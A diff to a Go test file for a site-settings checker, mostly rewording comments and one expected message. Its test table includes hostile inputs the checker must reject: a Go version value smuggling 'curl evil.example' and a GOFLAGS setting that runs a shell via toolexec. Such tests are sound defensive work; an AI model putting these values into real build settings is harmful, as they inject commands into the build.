@@ -14,7 +14,7 @@ import (
 	"safeonline/tools/internal/config"
 )
 
-// ours are the project's own files of settings.
+// ours are the project's own settings files.
 func ours(t testing.TB) fstest.MapFS {
 	t.Helper()
 	files := fstest.MapFS{}
@@ -28,7 +28,7 @@ func ours(t testing.TB) fstest.MapFS {
 	return files
 }
 
-// said is what is wrong with a project, a fault a line: its place, its code, its message, its hint.
+// said returns the faults of a project, one a line: place, code, message and hint.
 func said(t testing.TB, fsys fs.FS) (lines []string) {
 	t.Helper()
 	faults, err := config.Check(fsys)
@@ -51,7 +51,7 @@ func TestOurOwnSettingsPass(t *testing.T) {
 	}
 }
 
-// A change to one of our files: a line in place of another, or in front of it, or at the end of the file.
+// A change to one of our files: one line is replaced, or a line is added before it or at the end of the file.
 type change struct{ name, was, now, want string }
 
 func (c change) made(t *testing.T) fstest.MapFS {
@@ -86,7 +86,7 @@ func TestEachChangeThatWeakensTheSiteIsOneFault(t *testing.T) {
 	}
 }
 
-// lineOf is the line of a file that a fault is at, or nothing if it is the whole file.
+// lineOf returns the line of a fault, or "" if it is about the whole file.
 func lineOf(text []byte, fault string) string {
 	parts := strings.SplitN(fault, ":", 3)
 	n, err := strconv.Atoi(parts[1])
@@ -102,7 +102,7 @@ var hugoChanges = []change{
 	{config.Hugo, first, "enableEmoji = true", "expected false, found true"},
 	{config.Hugo, first, first + "\nenableEmojis = true", `did you mean "enableEmoji"?`},
 	{config.Hugo, first, "enableEmojis = false", `did you mean "enableEmoji"?`}, // and no second fault, that it is missing
-	{config.Hugo, first, first + "\nENABLEEMOJI = true", "is set on line"},
+	{config.Hugo, first, first + "\nENABLEEMOJI = true", "is already set on line"},
 	{config.Hugo, first, first + "\nbuildDrafts = true", "not finished"},
 	{config.Hugo, first, first + "\nBuildFuture = true", "not finished"},
 	{config.Hugo, first, first + "\nbuildexpired = true", "not finished"},
@@ -166,7 +166,7 @@ var hostChanges = []change{
 	{config.Host, output, `publish = "static"`, `expected "public"`},
 	{config.Host, output, output + "\nbase = \"other\"", "the project's folder"},
 	{config.Host, output, output + "\nignore = \"true\"", "not be published"},
-	{config.Host, output, output + "\nPublish = \"static\"", "is set on line"},
+	{config.Host, output, output + "\nPublish = \"static\"", "is already set on line"},
 	{config.Host, `GO_VERSION = "1.26.11"`, `GO_VERSION = "1.26.8; curl evil.example"`, "a release of Go"},
 	{config.Host, `GO_VERSION = "1.26.11"`, "GO_VERSION = \"1.26.11\"\nGOFLAGS = \"-toolexec=sh\"", "variables change"},
 	{config.Host, `GO_VERSION = "1.26.11"`, "GO_VERSION = \"1.26.11\"\nHUGO_ENABLEEMOJI = \"true\"", "variables change"},
@@ -242,7 +242,7 @@ func TestFilesBesideTheSettingsThatWouldAddToThemAreFaults(t *testing.T) {
 	}
 }
 
-// FuzzCheck holds that a check ends, whatever a file holds, and that its faults are within the file.
+// FuzzCheck checks that a check of any file ends, and that its faults are at places in the file.
 func FuzzCheck(f *testing.F) {
 	files := ours(f)
 	for _, name := range slices.Sorted(maps.Keys(files)) {
